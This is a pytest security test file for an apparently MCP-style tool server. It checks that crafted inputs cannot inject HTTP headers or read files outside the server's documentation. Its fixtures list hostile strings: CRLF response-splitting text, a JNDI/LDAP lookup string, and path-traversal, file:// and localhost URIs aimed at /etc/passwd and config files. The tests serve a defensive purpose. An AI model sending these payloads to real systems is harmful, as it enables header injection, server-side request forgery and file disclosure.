"""What arguments of tools and addresses of pages may carry, and where it never arrives."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.recording import Recording, recording_portal
from tests.server.http.team_server import (
    TeamServer,
    make_modern_headers,
    make_modern_request,
    serve_team,
    write_profiles,
)

EVIL = "x\r\nX-Evil: yes\r\nSet-Cookie: evil=1\r\n\r\nHTTP/1.1 200 OK\r\n\r\nevil"
TEXTS = [
    EVIL,
    "\u560d\u560aX-Evil: yes",
    "x\nX-Evil: yes",
    "\x00\x1b[2J",
    "%0d%0aX-Evil: yes",
    "${jndi:ldap://evil}",
    "../../etc",
]


@pytest.fixture
def portal() -> Iterator[Recording]:
    with recording_portal() as portal:
        yield portal


@pytest.fixture
def server(portal: Recording, tmp_path: Path) -> Iterator[TeamServer]:
    write_profiles(tmp_path, shop=portal)
    with serve_team(tmp_path, options={"toolsets": "all"}) as server:
        yield server


@pytest.mark.parametrize("way", ["modern", "legacy"])
def test_line_breaks_in_arguments_reach_no_header(server: TeamServer, portal: Recording, way: str) -> None:
    portal.result = 5
    token = server.token("anna", profile="shop")
    with server.client(way, token) as client:
        for text in TEXTS:
            client.call("network_message_add", code="a" * 32, user_id=1, message=text)
            client.call("session_open", user_code=text)
            client.call(text)
    for text in TEXTS:
        answers = [
            server.call("session_open", {"user_code": text}, token),
            server.call("session_open", {text: text}, token),
            server.post(
                make_modern_request("resources/read", uri=text), token, **make_modern_headers("resources/read", "x")
            ),
            server.post(make_modern_request(text), token, **make_modern_headers("x")),
            server.post({"jsonrpc": "2.0", "id": text, "method": "ping"}, token, Mcp_Session_Id="0" * 32),
        ]
        for answer in answers:
            assert "evil" not in str(answer.headers).lower()

    sent = [body["MESSAGE"] for method, body in portal.requests if method == "imopenlines.network.message.add"]
    assert EVIL in sent, "as a value it is a text like any other"
    assert {method for method, _ in portal.requests} <= {"imopenlines.network.message.add", "imopenlines.session.open"}
    assert all("evil" not in str(headers).lower() for headers in portal.headers)


@pytest.mark.parametrize(
    "uri",
    [
        "openchannels://docs/methods/../../../etc/passwd",
        "openchannels://docs/methods/..%2f..%2f..%2fetc%2fpasswd",
        "openchannels://docs/methods/imopenlines.dialog.get/../../../server/config/settings.py",
        "openchannels://docs/../README.md",
        "openchannels://docs/methods/%00",
        "openchannels:///etc/passwd",
        "file:///etc/passwd",
        "http://127.0.0.1/secret",
        "\\\\evil\\share",
        "/etc/passwd",
        "",
    ],
)
def test_tricks_in_addresses_of_pages_lead_nowhere(server: TeamServer, uri: str) -> None:
    token = server.token("anna", profile="shop")
    answer = server.post(
        make_modern_request("resources/read", uri=uri), token, **make_modern_headers("resources/read", uri or "x")
    )

    assert "error" in answer.json()
    assert "root:" not in answer.text
    assert "BaseSettings" not in answer.text
